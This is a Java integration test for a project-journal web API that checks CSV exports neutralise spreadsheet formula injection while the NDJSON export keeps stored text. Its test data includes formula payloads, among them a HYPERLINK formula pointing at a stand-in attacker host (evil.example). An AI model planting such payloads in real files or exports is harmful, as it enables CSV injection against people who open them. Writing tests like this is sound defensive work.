package dk.samskabelse.journal.web.api;

import static org.assertj.core.api.Assertions.assertThat;

import dk.samskabelse.journal.support.JournalIntegrationTest;
import dk.samskabelse.journal.support.JsonHttp;
import dk.samskabelse.journal.support.TestUsers;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * The review's formula payloads (2026-12-04, 3b) through the API: both CSV exports write them as text a
 * spreadsheet will not evaluate, while the NDJSON export keeps the stored text exactly.
 */
@JournalIntegrationTest
class CsvExportIT {

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?x\",\"klik\")";

    @LocalServerPort
    int port;

    @Test
    void formulaCellsAreNeutralisedInTheOrdinaryAndTheResearchExport() {
        JsonHttp leader = TestUsers.projectLeader(port);
        String projectId = leader.post(
                        "/api/projects",
                        JsonHttp.json(Map.of(
                                "name",
                                HYPERLINK,
                                "municipality",
                                "+SUM(1+1)",
                                "area",
                                "ANDET",
                                "purpose",
                                "-2+3 formål",
                                "startedOn",
                                "2020-01-01")))
                .text("projectId");
        assertThat(leader.post(
                                "/api/projects/" + projectId + "/insights",
                                JsonHttp.json(Map.of(
                                        "focus",
                                        "PROCES",
                                        "text",
                                        "@SUM(A1) indsigt",
                                        "shareable",
                                        true,
                                        "effectiveOn",
                                        "2020-01-02")))
                        .status())
                .isEqualTo(201);
        assertThat(TestUsers.admin(port)
                        .send("PUT", "/api/admin/projects/" + projectId + "/research-release", null, null)
                        .status())
                .isEqualTo(204);

        JsonHttp.Response ordinary = leader.get("/api/projects/" + projectId + "/events?format=csv");
        JsonHttp.Response research = TestUsers.user(port, "csv-forsker", "FORSKER")
                .get("/api/research/projects/" + projectId + "/events?format=csv");
        JsonHttp.Response ndjson = leader.get("/api/projects/" + projectId + "/events");

        assertThat(ordinary.status()).isEqualTo(200);
        assertThat(ordinary.body())
                .contains(
                        "\"'=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"klik\"\")\"",
                        "\"'+SUM(1+1)\"",
                        "\"'-2+3 formål\"",
                        "\"'@SUM(A1) indsigt\"");
        assertThat(research.status()).isEqualTo(200);
        assertThat(research.body()).contains("\"'=HYPERLINK(", "\"'+SUM(1+1)\"", "\"'@SUM(A1) indsigt\"");
        for (String csv : List.of(ordinary.body(), research.body())) {
            assertThat(csv.lines())
                    .allSatisfy(line ->
                            assertThat(line).doesNotContain(",=", ",+", ",@", ",\"=", ",\"+", ",\"@", ",\"-", ",-2"));
        }
        assertThat(ndjson.body()).contains("\"name\":\"=HYPERLINK(").doesNotContain("'=HYPERLINK");
    }
}
